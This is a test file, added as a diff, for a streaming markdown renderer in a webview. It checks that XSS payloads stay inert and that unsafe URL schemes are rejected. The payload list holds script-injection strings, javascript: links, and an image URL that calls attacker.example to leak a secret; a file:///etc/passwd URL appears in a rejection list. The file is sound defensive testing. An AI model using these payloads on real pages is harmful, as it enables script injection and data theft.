@@ -1,0 +1,148 @@
+import assert from 'node:assert/strict';
+import { createMarkdownRenderer, isSafeUrl } from '../../src/webview/markdown';
+import { MarkdownView } from '../../src/webview/markdownView';
+import { domWindow, manualFrames } from '../helpers/dom';
+
+const PAYLOADS = [
+  '<img src=x onerror="window.__pwned=1">',
+  '<script>window.__pwned=1</script>',
+  '[click me](javascript:window.__pwned=1)',
+  '[data](data:text/html;base64,PHNjcmlwdD4=)',
+  '![pic](https://attacker.example/leak?secret=1)',
+  '<a href="javascript:alert(1)">raw link</a>',
+  '<iframe src="https://x.example"></iframe>',
+  '<svg onload=alert(1)></svg>',
+  '<div style="position:fixed" onclick="x()">styled</div>',
+  '[vbs](vbscript:msgbox)',
+  '[spaced]( javascript:alert(1))',
+];
+
+/** Everything in rendered HTML that could run code or load something from outside. */
+function dangers(root: Element): string[] {
+  const found: string[] = [];
+  for (const el of Array.from(root.querySelectorAll('*'))) {
+    const tag = el.tagName.toLowerCase();
+    if (['script', 'img', 'iframe', 'svg', 'style', 'object', 'embed'].includes(tag)) found.push(`<${tag}>`);
+    for (const attr of Array.from(el.attributes)) {
+      if (/^on/i.test(attr.name) || attr.name === 'style') found.push(`${tag}[${attr.name}]`);
+      if ((attr.name === 'href' || attr.name === 'src') && !/^(https?:|mailto:)/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
+    }
+  }
+  return found;
+}
+
+describe('markdown rendering', () => {
+  const window = domWindow();
+  const renderer = createMarkdownRenderer(window);
+  const host = window.document.createElement('div');
+
+  it('renders markdown: headings, emphasis, lists, tables, safe links', () => {
+    host.innerHTML = renderer.render('## Hi\n\n*a* **b** [docs](https://example.com)\n\n- x\n\n| a |\n|---|\n| 1 |\n', true);
+    assert.equal(host.querySelector('h2')?.textContent, 'Hi');
+    assert.equal(host.querySelector('em')?.textContent, 'a');
+    assert.equal(host.querySelector('a')?.getAttribute('href'), 'https://example.com');
+    assert.equal(host.querySelector('a')?.getAttribute('rel'), 'noopener noreferrer');
+    assert.ok(host.querySelector('table td'));
+  });
+
+  it('renders every XSS payload inert: raw HTML as text, unsafe links as text, images as links', () => {
+    for (const payload of PAYLOADS) {
+      host.innerHTML = renderer.render(`Answer: ${payload}\n\n${payload}\n`, true);
+      assert.deepEqual(dangers(host), [], payload);
+    }
+    host.innerHTML = renderer.render('<script>alert(1)</script>', true);
+    assert.match(host.textContent ?? '', /<script>alert\(1\)<\/script>/, 'raw HTML is shown as text');
+    host.innerHTML = renderer.render('![pic](https://example.com/a.png)', true);
+    assert.equal(host.querySelector('img'), null);
+    assert.equal(host.querySelector('a')?.getAttribute('href'), 'https://example.com/a.png');
+  });
+
+  it('allows only http(s) and mailto URLs', () => {
+    assert.equal(isSafeUrl('https://a'), true);
+    assert.equal(isSafeUrl('mailto:a@b'), true);
+    for (const bad of ['javascript:x', ' JavaScript:x', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'command:workbench.action.quit']) {
+      assert.equal(isSafeUrl(bad), false, bad);
+    }
+  });
+
+  it('highlights code only once its block is settled', () => {
+    const md = '```ts\nconst x: number = 1;\n```\n';
+    host.innerHTML = renderer.render(md, false);
+    assert.equal(host.querySelector('.hljs-keyword'), null);
+    host.innerHTML = renderer.render(md, true);
+    assert.equal(host.querySelector('.hljs-keyword')?.textContent, 'const');
+    host.innerHTML = renderer.render('```nosuchlang\n<b>x</b>\n```\n', true);
+    assert.equal(host.querySelector('code')?.textContent, '<b>x</b>');
+  });
+});
+
+describe('MarkdownView (streaming)', () => {
+  const window = domWindow();
+
+  function view(maxOpen?: number) {
+    const frames = manualFrames();
+    const base = createMarkdownRenderer(window);
+    const calls: { markdown: string; settled: boolean }[] = [];
+    const renderer = { render: (markdown: string, settled: boolean) => (calls.push({ markdown, settled }), base.render(markdown, settled)) };
+    return { md: new MarkdownView(window.document, renderer, frames.schedule, maxOpen), frames, calls };
+  }
+
+  it('renders at most once per frame, however many chunks arrived', () => {
+    const { md, frames, calls } = view();
+    for (const word of 'one two three four five'.split(' ')) md.append(word + ' ');
+    assert.equal(calls.length, 0);
+    assert.equal(frames.run(), 1);
+    assert.equal(calls.length, 1);
+    assert.equal(md.element.textContent?.trim(), 'one two three four five');
+  });
+
+  it('renders each settled block once and re-renders only the open tail', () => {
+    const { md, frames, calls } = view();
+    const blocks = Array.from({ length: 30 }, (_, i) => `Paragraph ${i} with some words.\n\n`);
+    for (const block of blocks) {
+      for (const piece of block.match(/.{1,5}/gs)!) {
+        md.append(piece);
+        frames.run();
+      }
+    }
+    md.finish();
+    const settledCalls = calls.filter((c) => c.settled).map((c) => c.markdown.trim());
+    assert.deepEqual(settledCalls, blocks.map((b) => b.trim()), 'every block rendered settled exactly once');
+    const tailSizes = calls.filter((c) => !c.settled).map((c) => c.markdown.length);
+    assert.ok(Math.max(...tailSizes) < 60, `tail renders stay small: ${Math.max(...tailSizes)}`);
+    assert.equal(md.element.querySelectorAll('p').length, 30);
+  });
+
+  it('keeps a payload split across chunks inert (sanitizes the accumulated text, not each chunk)', () => {
+    const { md, frames } = view();
+    const payload = 'Look: <scr' + 'ipt>window.__pwned=1</scr' + 'ipt> <img src=x one' + 'rror=alert(1)> [x](java' + 'script:alert(1))\n\n```html\n<script>ok in code</script>\n```\n';
+    for (const piece of payload.match(/.{1,3}/gs)!) {
+      md.append(piece);
+      frames.run();
+      assert.deepEqual(dangers(md.element), []);
+    }
+    md.finish();
+    assert.deepEqual(dangers(md.element), []);
+    assert.match(md.element.textContent ?? '', /<script>window.__pwned=1<\/script>/);
+    assert.match(md.element.querySelector('code')?.textContent ?? '', /<script>ok in code<\/script>/);
+  });
+
+  it('joins CRLF split across chunks into one line break', () => {
+    const { md, frames } = view();
+    md.append('a\r');
+    md.append('\nb\r\n\r');
+    md.append('\nc');
+    frames.run();
+    assert.equal(md.source, 'a\nb\n\nc');
+  });
+
+  it('adds a copy button to code blocks and highlights the tail when the answer ends', () => {
+    const { md, frames } = view();
+    md.append('```js\nlet a = 1;\n```');
+    frames.run();
+    assert.ok(md.element.querySelector('pre > button.copy-code'));
+    assert.equal(md.element.querySelector('.hljs-keyword'), null);
+    md.finish();
+    assert.equal(md.element.querySelector('.hljs-keyword')?.textContent, 'let');
+  });
+});
